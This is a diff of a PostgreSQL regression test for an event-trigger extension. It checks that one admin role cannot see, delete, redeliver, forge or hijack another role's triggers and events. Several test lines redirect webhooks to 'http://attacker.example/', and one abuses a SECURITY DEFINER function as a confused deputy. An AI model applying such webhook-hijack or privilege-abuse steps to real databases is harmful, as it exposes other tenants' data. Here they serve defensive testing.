@@ -64,7 +64,7 @@ SELECT hasura_events.metadata('{"type": "pg_invoke_event_trigger", "args": {"nam
 RESET ROLE;
 SELECT tgname, tgenabled FROM pg_trigger WHERE tgrelid = 'priv_admin_tbl'::regclass AND NOT tgisinternal ORDER BY 1;
 
--- Another admin cannot delete it (dropping the pg triggers needs the table's owner).
+-- Another admin cannot delete it: to a role that does not own the table it does not exist.
 SET ROLE regress_he_admin;
 SELECT try_md('{"type": "pg_delete_event_trigger", "args": {"name": "priv_admin_repl"}}');
 RESET ROLE;
@@ -128,6 +128,138 @@ RESET ROLE;
 SELECT count(*) AS definitions_left FROM hasura_events.event_triggers WHERE name = 'priv_owner';
 SELECT trigger_name, archived, payload->'data'->'new' AS new FROM hdb_catalog.event_log;
 TRUNCATE hdb_catalog.event_log;
+
+-- Two admins, each the owner of one table: each sees and changes only the event triggers, events
+-- and invocation logs of its own table. A trigger or event of another role's table is answered
+-- as a missing one (42704), so that its existence is not told; only create tells that a name is
+-- taken (42710), as names are unique in the database. Direct changes of the catalog are refused
+-- to every admin (42501, Postgres's permission check), on its own rows too.
+CREATE ROLE regress_he_a LOGIN;
+CREATE ROLE regress_he_b LOGIN;
+CREATE ROLE regress_he_a_member LOGIN;   -- member of regress_he_a (so an admin too), owns nothing
+GRANT hasura_events_admin TO regress_he_a, regress_he_b;
+GRANT regress_he_a TO regress_he_a_member;
+GRANT CREATE ON SCHEMA public TO regress_he_a, regress_he_b;
+SET ROLE regress_he_a;
+CREATE TABLE public.priv_a_tbl (id int PRIMARY KEY, v text);
+SELECT hasura_events.metadata('{"type": "pg_create_event_trigger", "args": {"name": "priv_a", "table": "priv_a_tbl",
+  "webhook": "http://a.example/", "insert": {"columns": "*"}, "enable_manual": true}}');
+INSERT INTO priv_a_tbl VALUES (1, 'row of a');
+RESET ROLE;
+SET ROLE regress_he_b;
+CREATE TABLE public.priv_b_tbl (id int PRIMARY KEY, v text);
+SELECT hasura_events.metadata('{"type": "pg_create_event_trigger", "args": {"name": "priv_b", "table": "priv_b_tbl",
+  "webhook": "http://b.example/", "insert": {"columns": "*"}, "enable_manual": true,
+  "headers": [{"name": "X-Secret", "value_from_env": "B_SECRET"}]}}');
+INSERT INTO priv_b_tbl VALUES (1, 'secret row of b');
+-- B's SECURITY DEFINER function that acts on whatever trigger it is given: called by A, it acts
+-- for B (current_user), not for A (the role that called it) nor the session's user (a superuser)
+CREATE FUNCTION public.priv_b_deputy(trigger_name text) RETURNS text LANGUAGE sql SECURITY DEFINER AS
+$$ SELECT hasura_events.delete_event_trigger(trigger_name)::text $$;
+GRANT EXECUTE ON FUNCTION public.priv_b_deputy(text) TO regress_he_a;
+RESET ROLE;
+-- one failed attempt each, so that both events are dead and have an invocation log
+UPDATE hdb_catalog.event_log SET error = true, tries = 1 WHERE trigger_name IN ('priv_a', 'priv_b');
+INSERT INTO hdb_catalog.event_invocation_logs (trigger_name, event_id, status, request, response)
+SELECT trigger_name, id, 500, '{}', '{"type": "webhook_response", "data": {"message": "boom"}}'
+FROM hdb_catalog.event_log WHERE trigger_name IN ('priv_a', 'priv_b');
+SELECT id AS a_event FROM hdb_catalog.event_log WHERE trigger_name = 'priv_a' \gset
+SELECT id AS b_event FROM hdb_catalog.event_log WHERE trigger_name = 'priv_b' \gset
+
+SET ROLE regress_he_a;
+-- A reads its own rows only: definitions, events, invocation logs, the views, the queue figures
+SELECT name, webhook FROM hasura_events.event_triggers ORDER BY 1;
+SELECT trigger_name, payload->'data'->'new' AS new FROM hdb_catalog.event_log ORDER BY 1;
+SELECT trigger_name, status FROM hdb_catalog.event_invocation_logs ORDER BY 1;
+SELECT trigger_name, last_error FROM hasura_events.dead_events ORDER BY 1;
+SELECT trigger_name, errored FROM hasura_events.trigger_status ORDER BY 1;
+SELECT name, errored FROM hasura_events._queue_stats() ORDER BY 1;
+-- B's trigger and event through every API: as if they did not exist
+SELECT try_md('{"type": "pg_get_event_logs", "args": {"name": "priv_b"}}');
+SELECT try_md('{"type": "pg_get_event_invocation_logs", "args": {"name": "priv_b"}}');
+SELECT replace(try_md(jsonb_build_object('type', 'pg_get_event_by_id', 'args', jsonb_build_object('event_id', :'b_event'))),
+               :'b_event', '<id of b''s event>') AS try_md;
+SELECT replace(try_md(jsonb_build_object('type', 'pg_redeliver_event', 'args', jsonb_build_object('event_id', :'b_event'))),
+               :'b_event', '<id of b''s event>') AS try_md;
+SELECT try_md('{"type": "pg_invoke_event_trigger", "args": {"name": "priv_b", "payload": {"forged": true}}}');
+SELECT try_md('{"type": "pg_delete_event_trigger", "args": {"name": "priv_b"}}');
+SELECT try_sql($$SELECT hasura_events.get_event_logs('priv_b')::text$$);
+SELECT replace(try_sql(format('SELECT hasura_events.get_event_by_id(%L)::text', :'b_event')), :'b_event', '<id of b''s event>')
+       AS try_sql;
+-- create over B's trigger, with or without replace, on A's table or on B's
+SELECT try_md('{"type": "pg_create_event_trigger", "args": {"name": "priv_b", "table": "priv_a_tbl",
+  "webhook": "http://attacker.example/", "insert": {"columns": "*"}, "replace": true}}');
+SELECT try_md('{"type": "pg_create_event_trigger", "args": {"name": "priv_b", "table": "priv_a_tbl",
+  "webhook": "http://attacker.example/", "insert": {"columns": "*"}}}');
+SELECT try_md('{"type": "pg_create_event_trigger", "args": {"name": "priv_b", "table": "priv_b_tbl",
+  "webhook": "http://attacker.example/", "insert": {"columns": "*"}, "replace": true}}');
+-- B's SECURITY DEFINER function acts for B: it cannot delete A's trigger for B
+SELECT try_sql($$SELECT public.priv_b_deputy('priv_a')$$);
+-- no direct change of the catalog, not even of A's own rows
+SELECT try_sql($$UPDATE hasura_events.event_triggers SET webhook = 'http://attacker.example/' WHERE name = 'priv_b' RETURNING name$$);
+SELECT try_sql($$UPDATE hasura_events.event_triggers SET webhook = 'not a url' WHERE name = 'priv_a' RETURNING name$$);
+SELECT try_sql($$INSERT INTO hasura_events.event_triggers (name, schema_name, table_name, webhook, enable_manual, definition)
+                 VALUES ('priv_x', 'public', 'priv_a_tbl', 'http://x/', true, '{}') RETURNING name$$);
+SELECT try_sql($$DELETE FROM hasura_events.event_triggers RETURNING name$$);
+SELECT try_sql($$INSERT INTO hdb_catalog.event_log (schema_name, table_name, trigger_name, payload)
+                 VALUES ('public', 'priv_b_tbl', 'priv_b', '{}') RETURNING id$$);
+SELECT try_sql($$UPDATE hdb_catalog.event_log SET delivered = true RETURNING id$$);
+SELECT try_sql($$DELETE FROM hdb_catalog.event_log RETURNING id$$);
+SELECT try_sql($$INSERT INTO hdb_catalog.event_invocation_logs (trigger_name, event_id) VALUES ('priv_b', 'x') RETURNING id$$);
+SELECT try_sql($$UPDATE hdb_catalog.event_invocation_logs SET status = 200 RETURNING id$$);
+SELECT try_sql($$DELETE FROM hdb_catalog.event_invocation_logs RETURNING id$$);
+TRUNCATE hdb_catalog.event_log, hdb_catalog.event_invocation_logs, hasura_events.event_triggers;
+-- nor through the functions behind the API, nor with a capture trigger of its own that names B's
+SELECT try_sql($$SELECT hasura_events._create_event_trigger('{}')::text$$);
+SELECT try_sql($$SELECT hasura_events._delete_event_trigger('priv_b')::text$$);
+SELECT try_sql(format('SELECT hasura_events._redeliver_event(%L)::text', :'b_event'));
+SELECT try_sql($$SELECT hasura_events._invoke_event_trigger('priv_b', '{}')::text$$);
+SELECT try_sql($$SELECT hasura_events._archive_events(ARRAY['priv_b'])::text$$);
+SELECT try_sql($$SELECT hasura_events._drop_pg_triggers('priv_b')::text$$);
+CREATE TRIGGER priv_forge AFTER INSERT ON priv_a_tbl FOR EACH ROW EXECUTE FUNCTION hasura_events.capture('priv_b', '*', '*');
+-- A does all of it for its own table
+SELECT jsonb_array_length(hasura_events.metadata('{"type": "pg_get_event_logs", "args": {"name": "priv_a"}}')) AS a_events;
+SELECT jsonb_array_length(hasura_events.metadata('{"type": "pg_get_event_invocation_logs", "args": {"name": "priv_a"}}')) AS a_invocations;
+SELECT hasura_events.metadata(jsonb_build_object('type', 'pg_get_event_by_id', 'args', jsonb_build_object('event_id', :'a_event')))
+       #> '{event,trigger_name}' AS a_event_by_id;
+SELECT hasura_events.metadata(jsonb_build_object('type', 'pg_redeliver_event', 'args', jsonb_build_object('event_id', :'a_event')));
+SELECT hasura_events.metadata('{"type": "pg_invoke_event_trigger", "args": {"name": "priv_a", "payload": {"by": "a"}}}') ? 'event_id' AS invoked;
+SELECT hasura_events.metadata('{"type": "pg_create_event_trigger", "args": {"name": "priv_a", "table": "priv_a_tbl",
+  "webhook": "http://a2.example/", "insert": {"columns": "*"}, "enable_manual": true, "replace": true}}');
+RESET ROLE;
+-- a member of A's role is as A: it sees and changes A's trigger
+SET ROLE regress_he_a_member;
+SELECT name, webhook FROM hasura_events.event_triggers ORDER BY 1;
+SELECT hasura_events.metadata('{"type": "pg_invoke_event_trigger", "args": {"name": "priv_a", "payload": {"by": "member"}}}') ? 'event_id' AS invoked;
+RESET ROLE;
+-- B sees its own, untouched: its webhook, its header, its event (not redelivered) and its log
+SET ROLE regress_he_b;
+SELECT name, webhook, headers FROM hasura_events.event_triggers ORDER BY 1;
+SELECT trigger_name, error, tries, payload->'data'->'new' AS new FROM hdb_catalog.event_log ORDER BY 1;
+SELECT trigger_name, status FROM hdb_catalog.event_invocation_logs ORDER BY 1;
+SELECT hasura_events.metadata('{"type": "pg_delete_event_trigger", "args": {"name": "priv_b"}}');
+RESET ROLE;
+-- a superuser sees every row
+SELECT trigger_name, error, archived, payload->'data'->'new' AS new FROM hdb_catalog.event_log
+WHERE trigger_name IN ('priv_a', 'priv_b') ORDER BY 1, created_at;
+SELECT name, webhook FROM hasura_events.event_triggers WHERE name IN ('priv_a', 'priv_b');
+-- the functions hasura_events_admin may execute (a new one shows up here: decide whether it may)
+SELECT p.oid::regprocedure AS admin_may_execute FROM pg_proc p
+WHERE p.pronamespace = 'hasura_events'::regnamespace AND has_function_privilege('hasura_events_admin', p.oid, 'EXECUTE')
+ORDER BY 1::text;
+SELECT p.oid::regprocedure AS only_through_the_api FROM pg_proc p
+WHERE p.pronamespace = 'hasura_events'::regnamespace AND NOT has_function_privilege('hasura_events_admin', p.oid, 'EXECUTE')
+ORDER BY 1::text;
+-- the writing functions are SECURITY DEFINER with a fixed search_path; the entries are not
+SELECT p.oid::regprocedure AS function, p.prosecdef, p.proconfig FROM pg_proc p
+WHERE p.pronamespace = 'hasura_events'::regnamespace AND (p.prosecdef OR p.prosrc = 'hasura_events_api_call')
+ORDER BY 1::text;
+DROP TABLE priv_a_tbl, priv_b_tbl;
+DROP FUNCTION public.priv_b_deputy(text);
+DROP OWNED BY regress_he_a, regress_he_b, regress_he_a_member;
+DROP ROLE regress_he_a_member, regress_he_a, regress_he_b;
+TRUNCATE hdb_catalog.event_log;
+TRUNCATE hdb_catalog.event_invocation_logs;
 
 -- Clean up (priv_admin_tbl and its owner stay for the last test file).
 DROP SCHEMA evil CASCADE;
